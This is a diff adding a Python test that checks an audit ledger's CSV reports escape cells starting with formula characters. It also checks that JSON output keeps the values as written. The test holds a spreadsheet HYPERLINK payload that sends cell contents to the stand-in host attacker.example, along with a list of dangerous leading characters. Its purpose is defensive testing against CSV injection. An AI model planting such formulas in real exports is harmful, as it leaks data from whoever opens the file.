@@ -3,7 +3,10 @@ a subject report shows what is held and who consulted it; protected attributes."
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+from dataclasses import replace
 from datetime import datetime, timedelta
 from pathlib import Path
 
@@ -84,3 +87,26 @@ def test_protected_attributes_come_from_settings(workspace: Workspace, ctx: Acce
     workspace.settings.protected_attributes = frozenset({"country"})
     with workspace.session(ctx) as s, pytest.raises(ProtectedAttribute, match="country"):
         s.check_filter_fields(["country"])
+
+
+def test_csv_report_cells_never_start_a_formula(workspace: Workspace, ctx: AccessContext) -> None:
+    payload = '=HYPERLINK("http://attacker.example/?"&A1,"Open the case file")'
+    for start in (payload, "+1 for the tip line, see report 17", "@SUM(1+1) in the report 17"):
+        with workspace.session(replace(ctx, actor="-tester", justification=start)) as s:
+            s.sources.list_visible()
+            s.record("search", {"q": "-1+1"})
+    with workspace.session(ctx) as s:
+        out = io.StringIO()
+        s.ledger.report(out, "csv", kind="consultations")
+        s.ledger.report(as_json := io.StringIO(), "json", kind="consultations")
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [r["justification"] for r in rows] == [
+        "'" + payload,
+        "'+1 for the tip line, see report 17",
+        "'@SUM(1+1) in the report 17",
+    ]
+    assert {r["actor"] for r in rows} == {"'-tester"}
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for r in rows for cell in r.values() if cell.startswith(dangerous)]
+    # JSON lines are data for programs: kept as they were written
+    assert json.loads(as_json.getvalue().splitlines()[0])["justification"] == payload
